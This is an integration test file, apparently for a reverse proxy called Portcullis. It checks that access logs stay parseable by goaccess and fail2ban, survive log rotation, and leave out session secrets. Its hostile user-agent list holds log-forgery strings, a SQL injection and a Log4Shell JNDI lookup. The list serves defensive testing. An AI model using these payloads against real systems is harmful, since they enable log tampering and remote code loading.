package dev.portcullis.app.e2e;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.List;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;
import org.junit.jupiter.api.extension.RegisterExtension;
import org.junit.jupiter.api.io.TempDir;

/** What administrators read access logs with reads ours, and logrotate can take the file away. */
@Timeout(120)
class LogReadersIT {

    private static final Duration SOON = Duration.ofSeconds(15);
    private static final int REQUESTS = 12;

    /** What strangers call themselves, to be taken for another line, another request or another verdict. */
    private static final List<String> HOSTILE = List.of(
            "x\" verdict=ban rule=probes origin=0.000 wait=0.000 ending=refused",
            "x\\\" 403 0 \"-\" \"-\" verdict=ban rule=probes",
            "\\\\\" verdict=ban ",
            "x%0a203.0.113.66 - - [] \"GET /.env HTTP/1.1\" 403 0 \"-\" \"-\" verdict=ban rule=probes",
            "x\\n203.0.113.66 - - [23/Nov/2026:00:00:00 +0000] \\\"GET / HTTP/1.1\\\" 200 0",
            "\"},{\"request\":{\"remote_ip\":\"203.0.113.66\"}}",
            "\"}\\u000a{\"x\":\"",
            "caf\u00e9 \u2028 \u0085",
            "tab\there",
            "'; DROP TABLE logs; --",
            "${jndi:ldap://203.0.113.66/a}",
            "%h %l %u %t %%");

    private static final String LONG = "x".repeat(3000);

    private final SocketOrigin site = new SocketOrigin();

    @RegisterExtension
    final PortcullisProcess portcullis = new PortcullisProcess(() -> "origin = \"" + site.origin() + "\"\n");

    @TempDir
    Path directory = Path.of("");

    @AfterEach
    void stopOrigin() throws IOException {
        site.close();
    }

    @Test
    void goaccessReadsTheCombinedLog() throws IOException {
        visit("127.0.0.81");

        assertThat(goaccess("COMBINED")).contains("\"valid_requests\": " + REQUESTS, "\"failed_requests\": 0");
    }

    @Test
    void goaccessReadsTheJsonLog() throws IOException {
        portcullis.configure("origin = \"" + site.origin() + "\"\naccess-log-format = json\n");
        assertThat(portcullis.reload()).isEqualTo(200);
        visit("127.0.0.82");

        assertThat(goaccess("CADDY")).contains("\"valid_requests\": " + REQUESTS, "\"failed_requests\": 0");
    }

    @Test
    void fail2banFindsWhoseRequestsARuleRefused() throws IOException {
        try (Visitor thief = portcullis.visitor("127.0.0.83")) {
            assertThat(thief.get("/.env").status()).isEqualTo(403);
        }
        visit("127.0.0.84");
        Program.Finished read = Program.run(
                SOON,
                List.of(
                        Program.find("fail2ban-regex", "fail2ban"),
                        "--print-all-matched",
                        "--print-no-missed",
                        logged(REQUESTS + 1).toString(),
                        "^<HOST> - - \\[\\] \".*\" \\d+ .* verdict=ban "));

        assertThat(read.text()).contains("1 matched").contains("127.0.0.83").doesNotContain("127.0.0.84");
    }

    @Test
    void aHostileUserAgentForgesNoLineForGoaccess() throws IOException {
        visitHostile("127.0.0.88");

        assertThat(goaccess("COMBINED", HOSTILE.size()))
                .contains("\"valid_requests\": " + HOSTILE.size(), "\"failed_requests\": 0")
                .doesNotContain("203.0.113.66");
    }

    @Test
    void aHostileUserAgentForgesNoObjectForGoaccess() throws IOException {
        portcullis.configure("origin = \"" + site.origin() + "\"\naccess-log-format = json\n");
        assertThat(portcullis.reload()).isEqualTo(200);
        visitHostile("127.0.0.89");

        assertThat(goaccess("CADDY", HOSTILE.size()))
                .contains("\"valid_requests\": " + HOSTILE.size(), "\"failed_requests\": 0")
                .doesNotContain("203.0.113.66");
    }

    @Test
    void aHostileUserAgentGetsNobodyBannedByFail2ban() throws IOException {
        visitHostile("127.0.0.90");
        Program.Finished read = Program.run(
                SOON,
                List.of(
                        Program.find("fail2ban-regex", "fail2ban"),
                        "--print-all-matched",
                        "--print-no-missed",
                        logged(HOSTILE.size()).toString(),
                        "^<HOST> - - \\[\\] \".*\" \\d+ .* verdict=ban "));

        assertThat(read.text()).contains("0 matched");
        assertThat(lines(portcullis.accessLogFile()))
                .hasSize(HOSTILE.size())
                .allMatch(line -> line.startsWith("127.0.0.90 - - ["))
                .allMatch(line -> line.matches("[ -~]*"))
                .allMatch(line -> line.contains(" verdict=pass "));
    }

    private void visitHostile(String address) throws IOException {
        try (Visitor visitor = portcullis.visitor(address)) {
            for (String agent : HOSTILE) {
                assertThat(visitor.get("/page", "User-Agent: " + agent).status())
                        .isEqualTo(204);
            }
        }
    }

    @Test
    void bansMayGoToStandardOutputBesideTheAccessLog() throws IOException {
        portcullis.configure("origin = \"" + site.origin() + "\"\nban-log = \"-\"\n");
        assertThat(portcullis.reload()).isEqualTo(200);
        try (Visitor thief = portcullis.visitor("127.0.0.91")) {
            assertThat(thief.get("/.env").status()).isEqualTo(403);
        }
        portcullis.ask("ban", "remove", "127.0.0.91");

        String made = portcullis.program().awaitLine(SOON, "the ban", line -> line.contains("\"event\":\"banned\""));
        assertThat(made).startsWith("{").endsWith("}").contains("\"subject\":\"127.0.0.91\"", "\"rule\":\"probes\"");
        portcullis.program().awaitLine(SOON, "its end", line -> line.contains("\"event\":\"lifted\""));
    }

    @Test
    void aRenamedLogIsWrittenAnewAfterTheSignalAndNoLineIsLost() throws IOException {
        visit("127.0.0.85");
        Path log = portcullis.accessLogFile();
        Path renamed = log.resolveSibling("access.log.1");
        Files.move(log, renamed);
        visit("127.0.0.86");
        Program.run(
                SOON,
                List.of("/bin/sh", "-c", "kill -USR1 " + portcullis.program().pid()));
        Await.until(SOON, "the new file", () -> Files.exists(log));
        portcullis.program().awaitLine(SOON, "the notice", line -> line.contains("logs are opened again"));
        Await.until(SOON, "the lines of before", () -> lines(renamed).size() == 2 * REQUESTS);
        int visits = 2;
        do { // lines of the first 200 ms after the signal may still go into the renamed file
            visit("127.0.0.87");
            int all = ++visits * REQUESTS;
            Await.until(
                    SOON,
                    "each line once",
                    () -> lines(renamed).size() + lines(log).size() == all);
        } while (lines(log).isEmpty());

        assertThat(lines(log)).allMatch(line -> line.startsWith("127.0.0.87 "));
    }

    /** Requests of a browser that has secrets, and some of what strangers send. */
    private void visit(String address) throws IOException {
        try (Visitor visitor = portcullis.visitor(address)) {
            for (int i = 0; i < REQUESTS; i++) {
                String sent = i == 0 ? LONG : "\"quoted\" \\ caf\u00e9 {\"}],";
                visitor.get(
                        "/page?q=" + i,
                        "Referer: https://example.org/" + sent,
                        "Cookie: PHPSESSID=secret-of-a-session",
                        "Authorization: Basic c2VjcmV0");
            }
        }
    }

    private String goaccess(String format) throws IOException {
        return goaccess(format, REQUESTS);
    }

    private String goaccess(String format, int requests) throws IOException {
        Path log = logged(requests);
        assertThat(portcullis.accessLog()).noneMatch(line -> line.contains("secret") || line.contains("c2VjcmV0"));
        Path report = directory.resolve("report.json");
        Program.Finished run = Program.run(
                SOON,
                List.of(
                        Program.find("goaccess", "goaccess"),
                        log.toString(),
                        "--log-format=" + format,
                        "--no-global-config",
                        "-o",
                        report.toString()));
        assertThat(run.code()).as(run.text()).isZero();
        return Files.readString(report);
    }

    /** The log, once so many requests are in it. */
    private Path logged(int requests) {
        Await.until(
                SOON,
                () -> "the log, which is " + portcullis.accessLog(),
                () -> portcullis.accessLog().size() >= requests);
        return portcullis.accessLogFile();
    }

    private static List<String> lines(Path file) {
        try {
            return Files.readAllLines(file);
        } catch (IOException e) {
            return List.of();
        }
    }
}
